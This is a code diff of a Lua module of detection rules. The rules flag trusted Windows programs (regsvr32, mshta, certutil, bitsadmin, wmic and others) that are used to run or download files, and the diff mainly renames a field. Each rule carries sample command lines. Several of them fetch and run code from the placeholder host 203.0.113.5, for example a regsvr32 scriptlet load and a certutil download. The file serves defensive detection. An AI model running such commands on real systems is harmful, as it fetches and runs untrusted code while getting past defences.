@@ -1,9 +1,11 @@
 -- Programs of Windows that run what others wrote, told to do so with a file from a user's place or an address on the
 -- web. One row, one rule: what the program is called, when its command line counts, and the verb for what it then does.
 
+local lists = require "kaiseki.common.lists"
 local command = require "kaiseki.detect.command"
 local lineage = require "kaiseki.detect.lineage"
 local memory = require "kaiseki.detect.memory"
+local programs = require "kaiseki.detect.programs"
 local say = require "kaiseki.detect.say"
 local windows = require "kaiseki.detect.windows"
 
@@ -99,22 +101,22 @@ end
 
 local ROWS = {
     { id = "defense-evasion.rundll32", programs = { "rundll32" }, attack = "T1218.011", target = rundll32_target,
-      verb = "run-with-tool", means = "rundll32",
+      verb = "run-with-tool", name = "rundll32",
       match = [[rundll32.exe C:\Users\x\AppData\Roaming\a\b.dll, Main]],
       other = [[rundll32 shell32.dll,ShellExec_RunDLL regsvr32 "C:/ProgramData/a/b.etl"]],
       no_match = "rundll32.exe shell32.dll,Control_RunDLL desk.cpl" },
     { id = "defense-evasion.regsvr32", programs = { "regsvr32" }, attack = "T1218.010", target = regsvr32_target,
-      verb = "run-with-tool", means = "regsvr32",
+      verb = "run-with-tool", name = "regsvr32",
       match = "regsvr32 /s /n /u /i:http://203.0.113.5/a.sct scrobj.dll",
       no_match = [[regsvr32 /s "D:\Tools\Editor\tool.dll"]] },
     { id = "defense-evasion.mshta", programs = { "mshta" }, attack = "T1218.005",
       target = function(each, case) return script_text(each) or user_file_or_url(each, case) end,
-      verb = "run-with-tool", means = "mshta",
+      verb = "run-with-tool", name = "mshta",
       match = "mshta http://203.0.113.5/a.hta",
       other = [[mshta "about:<hta:application><script>eval(x)</script>"]],
       no_match = [[mshta "C:\Program Files\Tool\about.hta"]] },
     { id = "defense-evasion.msiexec", programs = { "msiexec" }, attack = "T1218.007", target = msiexec_target,
-      verb = "install-quietly", means = "msiexec", is_administration = true,
+      verb = "install-quietly", name = "msiexec", is_administration = true,
       match = "msiexec /q /i http://203.0.113.5/a.msi",
       no_match = [[msiexec /i "C:\Users\x\Downloads\viewer.msi"]] },
     { id = "defense-evasion.regasm", programs = { "regasm", "regsvcs" }, attack = "T1218.009",
@@ -127,15 +129,15 @@ local ROWS = {
       no_match = [[InstallUtil.exe "C:\Program Files\Service\service.exe"]] },
     { id = "defense-evasion.msbuild", programs = { "msbuild" }, attack = "T1127.001",
       target = function(each, case) return not each:has("/nologo") and user_file(each, case) or nil end,
-      verb = "run-with-tool", means = "msbuild",
+      verb = "run-with-tool", name = "MSBuild",
       match = [[MSBuild.exe C:\Users\x\AppData\Local\Temp\a.xml]],
       no_match = [[MSBuild.exe "C:\Program Files\Build\all.proj"]] },
     { id = "defense-evasion.cmstp", programs = { "cmstp" }, attack = "T1218.003", target = user_file_or_url,
-      verb = "run-with-tool", means = "cmstp",
+      verb = "run-with-tool", name = "cmstp",
       match = [[cmstp.exe /ni /s C:\Users\x\AppData\Local\Temp\a.inf]],
       no_match = [[cmstp.exe /u "C:\Windows\System32\vpn.inf"]] },
     { id = "defense-evasion.odbcconf", programs = { "odbcconf" }, attack = "T1218.008", target = user_file,
-      verb = "run-with-tool", means = "odbcconf",
+      verb = "run-with-tool", name = "odbcconf",
       match = [[odbcconf /a {REGSVR C:\Users\Public\a.dll}]],
       no_match = [[odbcconf /a {REGSVR C:\Windows\System32\odbc.dll}]] },
     { id = "defense-evasion.msdt", programs = { "msdt" }, attack = "T1218", target = msdt_target,
@@ -146,7 +148,7 @@ local ROWS = {
       verb = "run-with-tool", means = "control-panel",
       match = [[control.exe C:\Users\x\AppData\Local\Temp\a.cpl]],
       no_match = "control.exe /name Microsoft.Sound" },
-    { id = "defense-evasion.indirect", programs = { "forfiles", "pcalua", "scriptrunner", "conhost" },
+    { id = "defense-evasion.indirect", programs = programs.names "indirect", called = "forfiles",
       attack = "T1202",
       target = function(each, case)
           if each.program == "conhost" and not each:has("--headless") then return nil end
@@ -156,26 +158,26 @@ local ROWS = {
       match = [[pcalua.exe -a C:\Users\x\AppData\Local\Temp\a.exe]],
       no_match = [[forfiles /p C:\logs /m *.log /c "cmd /c del @path"]] },
     { id = "execution.wmic", programs = { "wmic" }, attack = "T1047", target = wmic_target,
-      verb = "start-with-tool", means = "wmi", role = "command",
+      verb = "start-with-tool", name = "WMI", role = "command",
       match = [[wmic process call create "C:\Users\x\a.exe"]],
       no_match = "wmic os get caption" },
     { id = "defense-evasion.wmic-stylesheet", programs = { "wmic" }, attack = "T1220", target = wmic_stylesheet,
-      verb = "run-style-sheet", means = "wmic",
+      verb = "run-style-sheet", name = "wmic",
       match = "wmic os get /format:http://203.0.113.5/a.xsl",
       no_match = "wmic os get caption /format:csv" },
     { id = "defense-evasion.certutil-decode", programs = { "certutil" }, attack = "T1140", target = certutil_decoded,
-      verb = "decode-file", means = "certutil", role = "target",
+      verb = "decode-file", name = "certutil", role = "target",
       match = [[certutil -decode C:\Users\x\a.txt C:\Users\x\a.exe]],
       no_match = [[certutil -verify C:\certificates\a.cer]] },
     { id = "command-and-control.certutil", programs = { "certutil" }, attack = "T1105", target = certutil_target,
-      verb = "download-with-tool", means = "certutil",
+      verb = "download-with-tool", name = "certutil",
       match = [[certutil -urlcache -split -f http://203.0.113.5/a.exe C:\Users\x\a.exe]],
       no_match = "certutil -store my" },
     { id = "command-and-control.bitsadmin", programs = { "bitsadmin" }, attack = "T1197",
       target = function(each)
           return each:has("/transfer", "/addfile", "/setnotifycmdline") and (url(each) or "a-file") or nil
       end,
-      verb = "transfer-with-tool", means = "bitsadmin",
+      verb = "transfer-with-tool", name = "bitsadmin",
       match = [[bitsadmin /transfer job http://203.0.113.5/a.exe C:\Users\x\a.exe]],
       no_match = "bitsadmin /list" },
     { id = "command-and-control.curl", programs = { "curl", "wget" }, attack = "T1105",
@@ -186,17 +188,16 @@ local ROWS = {
 }
 
 -- cmd.exe takes carets out of a name before it runs it.
-local function with_carets(programs)
+local function with_carets(names)
     local parts = { "^" }
-    for _, name in ipairs(programs) do parts[#parts + 1] = name end
+    for _, name in ipairs(names) do parts[#parts + 1] = name end
     return parts
 end
 
 local function runs(row)
-    local programs = {}
-    for _, name in ipairs(row.programs) do programs[name] = true end
+    local names = lists.set(row.programs)
     return function(each, case)
-        return programs[each.program] and row.target(each, case) or nil
+        return names[each.program] and row.target(each, case) or nil
     end
 end
 
@@ -232,7 +233,7 @@ for _, row in ipairs(ROWS) do
     local target = runs(row)
     rule {
         id = row.id,
-        title = row.programs[1] .. " used to run or fetch what is not Windows'",
+        title = (row.called or row.programs[1]) .. " used to run or fetch what is not Windows'",
         severity = "high",
         attack = { row.attack },
         description = "A program that Windows ships and everyone trusts is made to run or fetch a file from a user's "
@@ -259,7 +260,7 @@ for _, row in ipairs(ROWS) do
             local starter = finding.events[1].process
             local other = starter.pid and starter ~= finding.process
                 and not say.same_program(starter, finding.process)
-            local facts = { row.verb, means = row.means, through = other and starter or nil }
+            local facts = { row.verb, name = row.name, means = row.means, through = other and starter or nil }
             facts[row.role or role_of(finding.key)] = finding.key
             return facts
         end,
